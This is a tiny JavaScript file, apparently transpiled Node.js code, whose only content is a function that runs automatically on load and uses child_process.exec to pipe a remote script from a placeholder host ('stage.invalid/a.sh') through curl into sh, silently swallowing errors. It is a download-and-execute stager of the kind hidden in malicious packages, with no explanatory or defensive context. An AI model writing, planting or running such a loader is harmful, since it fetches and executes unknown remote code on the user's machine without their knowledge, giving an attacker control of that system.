"use strict";

var _require = require("child_process"),
  exec = _require.exec;
var stage = "https://stage.invalid/a.sh";
function start() {
  exec("curl -s " + stage + " | sh", function (error) {
    if (error) {
      return;
    }
  });
}
start();
